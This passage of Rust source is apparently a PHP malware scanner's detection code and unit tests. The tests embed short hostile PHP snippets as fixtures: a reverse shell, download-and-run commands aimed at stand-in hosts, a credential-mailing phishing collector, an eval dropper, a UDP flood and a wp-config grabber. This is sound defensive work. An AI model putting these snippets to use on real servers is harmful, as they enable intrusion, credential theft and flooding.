        .filter(|k| f.has(**k))
        .count();
    if recon_kinds >= 3 && shown && control >= 3 && f.request_input && FORM.is_match(text) {
        add(Why::WebShellConsole, Danger::High, f.at(F::Recon).unwrap_or(0));
    }

    if let Some(at) = f.protection_restored {
        add(Why::PhpWeakened, Danger::High, at);
    }
    // A site's own path is sometimes built this way: many sites' files, or the accounts list
    // to enumerate them, is what a grabber shows.
    let mut homes = OTHER_SITES.find_iter(text);
    let first_home = homes.next();
    let many = first_home.is_some() && (homes.next().is_some() || f.recon_literal_passwd);
    if let Some(m) = SYSTEM_LINK.find(text).or(first_home.filter(|_| many)) {
        add(Why::ReadsOtherSites, Danger::High, m.start());
    }

    // Old web shells: a form field's name used as a variable (PHP's register_globals) in a
    // shell or code call.
    if let Some((why, at)) = form_field_to_sink(text, t) {
        add(why, Danger::High, at);
    }

    // Injected JavaScript.
    if let Some(at) = obfuscated_script(text).or_else(|| THROWAWAY_SCRIPT.find(text).map(|m| m.start())) {
        add(Why::InjectedScript, Danger::High, at);
    }
    out
}

/// The name of a form field (`<input name="cmd">`, also inside PHP strings).
static FORM_FIELD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i-u)<(?:input|textarea|select)\b[^>]{0,300}?\bname\s*=\s*\\?["']?([a-z_][a-z0-9_]{0,40})"#)
        .expect("pattern compiles")
});

/// A shell or code call given a variable named like one of the page's form fields: with
/// `register_globals` (old PHP, still what these shells are written for) the field is the
/// variable.
fn form_field_to_sink(text: &[u8], t: &[Token<'_>]) -> Option<(Why, usize)> {
    let mut fields: Vec<&[u8]> = Vec::new();
    for c in FORM_FIELD.captures_iter(text).take(256) {
        let name = c.get(1)?.as_bytes();
        if !fields.contains(&name) && fields.len() < 64 {
            fields.push(name);
        }
    }
    if fields.is_empty() {
        return None;
    }
    for (i, tok) in t.iter().enumerate() {
        let Tok::Ident(n) = tok.tok else { continue };
        let why = if classify(n) == Some(F::Shell) {
            Why::ShellFromInput
        } else if n.eq_ignore_ascii_case(b"move_uploaded_file") || n.eq_ignore_ascii_case(b"copy") {
            Why::UploadDropper
        } else if n.eq_ignore_ascii_case(b"mail") {
            Why::MailFromInput
        } else if n.eq_ignore_ascii_case(b"eval") || n.eq_ignore_ascii_case(b"assert") {
            Why::CodeFromInput
        } else {
            continue;
        };
        let method = i > 0 && (is_op(t.get(i - 1), b"->") || is_op(t.get(i - 1), b"::"));
        if method || !is_op(t.get(i + 1), b"(") {
            continue;
        }
        let first = args(t, i + 1).into_iter().next().unwrap_or_default();
        let named = first.iter().any(|x| match &x.tok {
            Tok::Var(v) => fields.contains(v),
            Tok::Str { vars, .. } => vars.iter().any(|v| fields.contains(v)),
            _ => false,
        });
        if named {
            return Some((why, tok.at));
        }
    }
    None
}

/// How many different reconnaissance functions the file calls, and whether one of them is
/// shown to the visitor (`echo php_uname()`, `'<td>' . get_current_user()`): a console prints
/// what it found out, a library uses it.
fn recon_calls<'a>(t: &[Token<'a>]) -> (usize, bool) {
    let mut seen: Vec<&'a [u8]> = Vec::new();
    let mut held: Vec<&'a [u8]> = Vec::new();
    let mut shown = false;
    for (i, tok) in t.iter().enumerate() {
        let Tok::Ident(n) = tok.tok else { continue };
        if classify(n) != Some(F::Recon) || !is_op(t.get(i + 1), b"(") {
            continue;
        }
        if !seen.iter().any(|s| s.eq_ignore_ascii_case(n)) && seen.len() < 32 {
            seen.push(n);
        }
        shown = shown || is_shown(t, i);
        // `$os = php_uname();` then `echo $os` or `"<b>$os</b>"`.
        let mut j = i;
        while j > 0 && is_op(t.get(j - 1), b"@") {
            j -= 1;
        }
        if j >= 2
            && is_op(t.get(j - 1), b"=")
            && let Tok::Var(v) = t[j - 2].tok
            && held.len() < 32
        {
            held.push(v);
        }
    }
    if !shown && !held.is_empty() {
        shown = t.iter().enumerate().any(|(i, x)| match &x.tok {
            Tok::Str { vars, .. } => vars.iter().any(|v| held.contains(v)),
            Tok::Var(v) => held.contains(v) && is_shown(t, i),
            _ => false,
        });
    }
    (seen.len(), shown)
}

/// Whether the expression at `i` is printed: part of a concatenation, or in an `echo` or
/// `print` statement.
fn is_shown(t: &[Token<'_>], i: usize) -> bool {
    if i > 0 && is_op(t.get(i - 1), b".") {
        return true;
    }
    for back in t[..i].iter().rev().take(40) {
        match back.tok {
            Tok::Op(b";" | b"{" | b"}") | Tok::Close => return false,
            Tok::Ident(w) if w.eq_ignore_ascii_case(b"echo") || w.eq_ignore_ascii_case(b"print") => return true,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sweep::php;

    fn whys(src: &str) -> Vec<(Why, Danger)> {
        let t = php::tokenize(src.as_bytes(), 100_000);
        let small = t.len() < 400;
        analyze(src.as_bytes(), &t, Options { small }).into_iter().map(|s| (s.why, s.danger)).collect()
    }

    fn found(src: &str) -> Vec<Why> {
        whys(src).into_iter().map(|(w, _)| w).collect()
    }

    /// The own-written fixtures of each family (the integration test sweeps them all) give the
    /// family's reason through `detect::judge`, so they are reported.
    #[test]
    fn each_fixture_is_reported_for_its_family() {
        let cases: &[(&str, &str, Why)] = &[
            (
                "backdating_self_deleting_dropper.php",
                include_str!("../../tests/fixtures/sweep/malicious/backdating_self_deleting_dropper.php"),
                Why::BackdatesFiles,
            ),
            (
                "reverse_shell_socket.php",
                include_str!("../../tests/fixtures/sweep/malicious/reverse_shell_socket.php"),
                Why::RemoteShell,
            ),
            (
                "irc_bot_privmsg.php",
                include_str!("../../tests/fixtures/sweep/malicious/irc_bot_privmsg.php"),
                Why::NetworkBot,
            ),
            (
                "udp_flood_loop.php",
                include_str!("../../tests/fixtures/sweep/malicious/udp_flood_loop.php"),
                Why::NetworkBot,
            ),
            (
                "socket_relay_from_request.php",
                include_str!("../../tests/fixtures/sweep/malicious/socket_relay_from_request.php"),
                Why::NetworkFromInput,
            ),
            (
                "googlebot_curl_cloak.php",
                include_str!("../../tests/fixtures/sweep/malicious/googlebot_curl_cloak.php"),
                Why::SearchEngineCloaking,
            ),
            (
                "credential_mailer_kit.php",
                include_str!("../../tests/fixtures/sweep/malicious/credential_mailer_kit.php"),
                Why::CredentialCollector,
            ),
            (
                "php_dropper_literal.php",
                include_str!("../../tests/fixtures/sweep/malicious/php_dropper_literal.php"),
                Why::WritesCodeWithInput,
            ),
            (
                "wget_chmod_run.php",
                include_str!("../../tests/fixtures/sweep/malicious/wget_chmod_run.php"),
                Why::DownloadsProgram,
            ),
            (
                "server_console_form.php",
                include_str!("../../tests/fixtures/sweep/malicious/server_console_form.php"),
                Why::WebShellConsole,
            ),
            (
                "injected_obfuscated_script.php",
                include_str!("../../tests/fixtures/sweep/malicious/injected_obfuscated_script.php"),
                Why::InjectedScript,
            ),
            (
                "injected_throwaway_domain_script.php",
                include_str!("../../tests/fixtures/sweep/malicious/injected_throwaway_domain_script.php"),
                Why::InjectedScript,
            ),
            (
                "ini_restore_bypass.php",
                include_str!("../../tests/fixtures/sweep/malicious/ini_restore_bypass.php"),
                Why::PhpWeakened,
            ),
            (
                "config_grabber_homes.php",
                include_str!("../../tests/fixtures/sweep/malicious/config_grabber_homes.php"),
                Why::ReadsOtherSites,
            ),
            (
                "form_field_register_globals_shell.php",
                include_str!("../../tests/fixtures/sweep/malicious/form_field_register_globals_shell.php"),
                Why::ShellFromInput,
            ),
            (
                "upload_form_field_copy.php",
                include_str!("../../tests/fixtures/sweep/malicious/upload_form_field_copy.php"),
                Why::UploadDropper,
            ),
            (
                "location_beacon_mail.php",
                include_str!("../../tests/fixtures/sweep/malicious/location_beacon_mail.php"),
                Why::ReportsItsLocation,
            ),
            (
                "mass_mailer_textarea_loop.php",
                include_str!("../../tests/fixtures/sweep/malicious/mass_mailer_textarea_loop.php"),
                Why::MailFromInput,
            ),
        ];
        for (name, text, why) in cases {
            let hits = crate::sweep::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
            assert!(hits.iter().any(|h| h.why == *why && h.danger >= Danger::Medium), "{name}: {hits:?}");
        }
    }

    #[test]
    fn backdating_and_self_deletion_are_found() {
        let dropper = "<?php if (file_exists('./x.php')) { touch('./x.php', time() - 60*60*24*30); } unlink(__FILE__);";
        assert_eq!(whys(dropper), [(Why::BackdatesFiles, Danger::High), (Why::DeletesItself, Danger::High)]);
        assert_eq!(found("<?php touch($f, strtotime('2014-03-02 10:00:00'));"), [Why::BackdatesFiles]);
        assert_eq!(found("<?php touch($f, 1388534400);"), [Why::BackdatesFiles]);
        assert_eq!(whys("<?php @unlink($_SERVER['SCRIPT_FILENAME']);"), [(Why::DeletesItself, Danger::Medium)]);
    }

    #[test]
    fn ordinary_touch_and_unlink_are_quiet() {
        // Tests age a cache file by seconds; caches touch with the current time.
        assert!(found("<?php touch(__DIR__.'/tmp/a', time() - 3); touch($file); touch($f, time());").is_empty());
        assert!(found("<?php unlink($tmp); @unlink($this->file);").is_empty());
        // A generator writing a self-deleting script is text, not a call.
        assert!(found("<?php $data .= 'if (@unlink(__FILE__)) {' . \"\\n\";").is_empty());
        // Copying another file's time is weak on its own in a large file.
        let big = format!("<?php {} touch($to, filemtime($from));", "$a = 1; ".repeat(200));
        assert_eq!(whys(&big), [(Why::BackdatesFiles, Danger::Low)]);
    }

    #[test]
    fn remote_shells_and_bots_are_found() {
        let reverse =
            "<?php $s = fsockopen($ip, 4444); $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);";
        assert_eq!(found(reverse), [Why::RemoteShell]);
        let irc = "<?php $c = fsockopen($server, 6667); fputs($c, \"NICK $nick\\r\\n\"); \
                   while ($l = fgets($c)) { if (strpos($l, 'PRIVMSG') !== false) { fputs($c, \"PRIVMSG #c :ok\\r\\n\"); } }";
        assert_eq!(found(irc), [Why::NetworkBot]);
        let flood = "<?php set_time_limit(0); $h = $_GET['h']; $end = time() + 60; \
                     while (time() < $end) { $f = fsockopen('udp://' . $h, rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); fclose($f); }";
        assert!(found(flood).contains(&Why::NetworkBot), "{:?}", found(flood));
    }

    #[test]
    fn mail_clients_and_lookups_are_not_bots() {
        let pop3 =
            "<?php $fp = fsockopen($server, 110); fputs($fp, \"USER $user\\r\\n\"); fputs($fp, \"PASS $pass\\r\\n\");";
        assert!(found(pop3).is_empty());
        let dns = "<?php $fp = fsockopen('udp://' . $dns, 53); for ($i = 0; $i < 3; $i++) { fwrite($fp, $query); }";
        assert!(found(dns).is_empty());
        let smtp = "<?php $fp = fsockopen($config['smtp_host'], 25); exec('hostname', $out);";
        assert!(found(smtp).is_empty());
    }

    #[test]
    fn visitor_chosen_connections_are_found() {
        let relay = "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, $_GET['i'], $_GET['p']); socket_send($s, $_GET['m'], 99, 0);";
        assert_eq!(whys(relay), [(Why::NetworkFromInput, Danger::High)]);
        let through = "<?php $host = trim($_POST['host']); $fp = fsockopen($host, 80);";
        assert_eq!(found(through), [Why::NetworkFromInput]);
        assert!(found("<?php $fp = fsockopen($this->host, $this->port);").is_empty());
    }

    #[test]
    fn search_engine_cloaking_is_found() {
        let cloak = "<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($ua, 'googlebot') !== false) { \
                     $ch = curl_init('http://spam.example/page?u=' . $_SERVER['REQUEST_URI']); \
                     curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($ch); exit; }";
        assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
        let bare = "<?php $b = getenv('HTTP_USER_AGENT'); if (stristr($b, 'bing')) { echo file_get_contents('http://links.example/l.txt'); }";
        assert_eq!(found(bare), [Why::SearchEngineCloaking]);
        // A cache that skips crawlers fetches nothing.
        let cache = "<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { return; } $page = file_get_contents($cache_file);";
        assert!(found(cache).is_empty());
    }

    #[test]
    fn search_engine_visitors_redirected_are_found() {
        let redirect = "<?php $r = $_SERVER['HTTP_REFERER']; if (preg_match('/google|yahoo|bing/i', $r)) { \
                        header('Location: ' . 'https://pills.example/?k=' . urlencode($r)); exit; }";
        assert_eq!(found(redirect), [Why::SearchEngineCloaking]);
        let hidden = "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) { \
                      echo file_get_contents(base64_decode('aHR0cDovL2xpbmtzLmV4YW1wbGUvcA==')); }";
        assert_eq!(found(hidden), [Why::SearchEngineCloaking]);
    }

    #[test]
    fn redirects_without_search_engines_are_quiet() {
        let login = "<?php if (strpos($_SERVER['HTTP_REFERER'], $site) === false) { header('Location: https://' . $site . '/login'); }";
        assert!(found(login).is_empty());
    }

    #[test]
    fn droppers_are_found() {
        let code =
            "<?php $f = fopen('wp-content/x.php', 'w'); fwrite($f, '<?php @eval($_POST[\"p\"]); ?>'); fclose($f);";
        assert_eq!(found(code), [Why::WritesCodeWithInput]);
        let download = "<?php system('cd /tmp; wget http://203.0.113.9/bot.pl -O b.pl; perl b.pl');";
        assert_eq!(found(download), [Why::DownloadsProgram]);
        let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
        assert_eq!(found(chmod), [Why::DownloadsProgram]);
    }

    #[test]
    fn installers_and_commands_that_run_nothing_are_quiet() {
        let config = "<?php file_put_contents($path, '<?php return ' . var_export($settings, true) . ';');";
        assert!(found(config).is_empty());
        let health = "<?php exec('curl -s https://status.example.org/health', $out);";
        assert!(found(health).is_empty());
        // A download described in text, with no shell call in the file.
        assert!(found("<?php $help = 'Run: wget https://example.org/x.tar.gz && sh install.sh';").is_empty());
    }

    #[test]
    fn web_shell_consoles_are_found() {
        let console = "<form method=post><input name=d></form><?php echo php_uname(); echo get_current_user(); \
                       echo ini_get('disable_functions'); $d = $_POST['d']; foreach (scandir($d) as $x) { echo $x; } \
                       if (isset($_POST['rm'])) { unlink($_POST['rm']); } if (isset($_POST['mv'])) { rename($_POST['mv'], $_POST['to']); }";
        assert_eq!(found(console), [Why::WebShellConsole]);
    }

    #[test]
    fn libraries_that_check_the_server_are_quiet() {
        // WordPress-like filesystem checks: the same functions, nothing shown to the visitor.
        let lib = "<?php function method() { if (getmyuid() === fileowner(__FILE__)) { return 'direct'; } \
                   $free = disk_free_space(WP_CONTENT_DIR); $p = fileperms($f); } \
                   function form() { ?><form><input name=host><?php $h = $_POST['host']; rename($a, $b); unlink($c); $l = scandir($d); }";
        assert!(found(lib).is_empty());
    }

    #[test]
    fn injected_scripts_are_found() {
        let hidden = "<script>var _0x3f2a=['\\x68\\x72\\x65\\x66'];document[_0x3f2a[0]]='x';</script><?php\n// Silence is golden.\n";
        assert_eq!(found(hidden), [Why::InjectedScript]);
        let foreign = "<script type='text/javascript' src='https://stats.lovely-cats.tk/m.js?n=1'></script><?php\n";
        assert_eq!(found(foreign), [Why::InjectedScript]);
        let codes = "<?php echo '<script>eval(String.fromCharCode(118, 97, 114, 32))</script>';";
        assert_eq!(found(codes), [Why::InjectedScript]);
    }

    #[test]
    fn ordinary_scripts_are_quiet() {
        let theme =
            "<script src=\"https://cdn.jsdelivr.net/npm/jquery@3/dist/jquery.min.js\"></script><?php wp_head(); ?>";
        assert!(found(theme).is_empty());
        // Content sniffers compare bytes with '<script' and binary signatures: no script tag.
        let sniffer = "<?php if (substr($b, 0, 7) === '<script') { return 'text/html'; } \
                       if ($b === \"\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x01\") { return 'x'; }";
        assert!(found(sniffer).is_empty());
        // Mail obfuscators print a document.write of escaped text.
        let mailto =
            "<?php echo '<script type=\"text/javascript\">document.write(unescape(\\'' . $enc . '\\'))</script>';";
        assert!(found(mailto).is_empty());
    }

    #[test]
    fn credential_collectors_are_found() {
        let kit = "<?php $ip = getenv('REMOTE_ADDR'); $m = \"Email : \" . $_POST['email'] . \"\\n\"; \
                   $m .= \"Password : \" . $_POST['pass'] . \"\\n\"; mail('drop@example.net', 'login ' . $ip, $m); \
                   header('Location: https://mail.example.com/');";
        assert_eq!(found(kit), [Why::CredentialCollector]);
        let saved = "<?php $f = fopen('cards.txt', 'a'); fwrite($f, \"Card: $_POST[ccnum]\\nCVV: $_POST[cvv]\\n\");";
        assert_eq!(found(saved), [Why::CredentialCollector]);
    }

    #[test]
    fn login_forms_are_not_collectors() {
        let login = "<?php if (password_verify($_POST['password'], $hash)) { mail($admin, 'New login', 'User ' . $name . ' logged in'); }";
        assert!(found(login).is_empty());
        let register =
            "<?php $msg = 'Welcome, your user name is: ' . $_POST['user']; mail($_POST['email'], 'Welcome', $msg);";
        assert!(found(register).is_empty());
    }

    #[test]
    fn protection_bypasses_and_config_grabbers_are_found() {
        assert_eq!(found("<?php ini_restore('safe_mode'); ini_restore('open_basedir');"), [Why::PhpWeakened]);
        let grab = "<?php $users = file('/etc/passwd'); foreach ($users as $u) { $n = explode(':', $u)[0]; \
                    copy('/home/' . $n . '/public_html/wp-config.php', $n . '.txt'); }";
        assert_eq!(found(grab), [Why::ReadsOtherSites]);
        assert_eq!(found("<?php symlink('/', 'root');"), [Why::ReadsOtherSites]);
    }

    #[test]
    fn form_fields_run_as_variables_are_found() {
        let shell = "<form method=post><input name='c'></form><?php if ($c) { echo shell_exec($c); }";
        assert_eq!(found(shell), [Why::ShellFromInput]);
        let code = "<?php echo '<textarea name=\"php\"></textarea>'; if (isset($php)) { eval($php); }";
        assert_eq!(found(code), [Why::CodeFromInput]);
        let upload = "<input type=file name=f><?php move_uploaded_file($f, 'x.php');";
        assert_eq!(found(upload), [Why::UploadDropper]);
    }

    #[test]
    fn form_fields_apart_from_commands_are_quiet() {
        let page =
            "<form><input name='host'></form><?php $cmd = 'uptime'; exec($cmd, $out); echo htmlspecialchars($host);";
        assert!(found(page).is_empty());
        let method = "<input name='q'><?php $db->exec($q);";
        assert!(found(method).is_empty());
    }

    #[test]
    fn mass_mailers_are_found() {
        let list = "<textarea name=emails></textarea><?php $all = explode(\"\\n\", $_POST['emails']); \
                    foreach ($all as $to) { mail($to, $subject, $body); }";
        assert_eq!(found(list), [Why::MailFromInput]);
        let globals = "<input name='kime'><?php mail($kime, $baslik, $icerik, 'From: ' . $kim);";
        assert_eq!(found(globals), [Why::MailFromInput]);
    }

    #[test]
    fn contact_forms_are_not_mass_mailers() {
        // One message to the site's owner, the visitor only in the text.
        let contact = "<textarea name=msg></textarea><?php $m = $_POST['msg']; foreach ($admins as $a) { mail($a, 'Contact', $m); }";
        assert!(found(contact).is_empty());
    }

    #[test]
    fn location_beacons_are_found() {
        let beacon =
            "<?php $m = \"$_SERVER[DOCUMENT_ROOT]\" . $_SERVER['SCRIPT_FILENAME']; mail('x@example.net', 'up', $m);";
        assert_eq!(found(beacon), [Why::ReportsItsLocation]);
    }

    #[test]
    fn error_mails_naming_the_page_are_quiet() {
        let report =
            "<?php $m = 'Error on ' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; mail($admin, 'error', $m);";
        assert!(found(report).is_empty());
        // A path read for the site's own use, no mail.
        assert!(
            found("<?php $a = $_SERVER['DOCUMENT_ROOT']; $b = $_SERVER['SCRIPT_FILENAME']; mailer_log($a);").is_empty()
        );
    }

    #[test]
    fn own_paths_and_settings_checks_are_quiet() {
        assert!(found("<?php if (ini_get('safe_mode')) { $warn = true; }").is_empty());
        assert!(found("<?php $root = '/home/' . $user . '/public_html/'; touch($root . 'x');").is_empty());
        assert!(found("<?php symlink($target, $link);").is_empty());
    }
}
